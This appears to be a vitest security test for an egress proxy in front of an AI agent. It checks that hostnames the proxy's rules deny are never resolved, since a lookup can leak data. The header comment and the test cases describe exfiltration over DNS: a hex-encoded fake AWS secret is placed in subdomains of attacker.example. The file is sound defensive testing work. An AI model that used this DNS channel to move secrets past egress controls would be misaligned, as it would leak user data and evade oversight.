// Attack: the proxy as a DNS channel. The agent names `<data>.attacker.example`; the proxy looks the
// name up before any rule is read, so the query (carrying the data) reaches the attacker's name server
// even when the install denies the host, lists nothing and does not ask the phone. A name the rules
// refuse without its address must not be resolved.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseHostEntry } from '../../common/egress/hosts.ts';
import { agent, startProxy, type Harness } from './attack-egress-harness.ts';
import { connectThrough, proxyGet } from './egress-client.ts';

const SECRET = Buffer.from('AWS_SECRET=hunter2').toString('hex');

let proxy: Harness;
beforeAll(async () => {
  proxy = await startProxy({
    rules: { ask: false, deny: [parseHostEntry('*.denied.example')] },
    table: {},
  });
  proxy.setSession('s1', { phase: 'Working', podName: 'pod-a' });
});
afterAll(() => proxy.close());

describe('a name the rules refuse is never looked up', () => {
  it('an unlisted host with asking off: refused, and no DNS query leaves', async () => {
    const { reply } = await connectThrough(proxy.port, `${SECRET}.attacker.example:443`, agent('s1', 'pod-a'));
    expect(reply.status).toBe(403);
    expect(proxy.resolved.filter((n) => n.includes(SECRET))).toEqual([]);
  });

  it("a host on the install's deny list: refused, and no DNS query leaves", async () => {
    const { reply } = await connectThrough(proxy.port, `${SECRET}.denied.example:443`, agent('s1', 'pod-a'));
    expect(reply.status).toBe(403);
    expect(reply.body).toContain('denied by this install');
    expect(proxy.resolved.filter((n) => n.includes('denied.example'))).toEqual([]);
  });

  it('plain HTTP the same', async () => {
    const reply = await proxyGet(proxy.port, `http://${SECRET}.x.attacker.example/`, agent('s1', 'pod-a'));
    expect(reply.status).toBe(403);
    expect(proxy.resolved.filter((n) => n.includes('x.attacker.example'))).toEqual([]);
  });
});
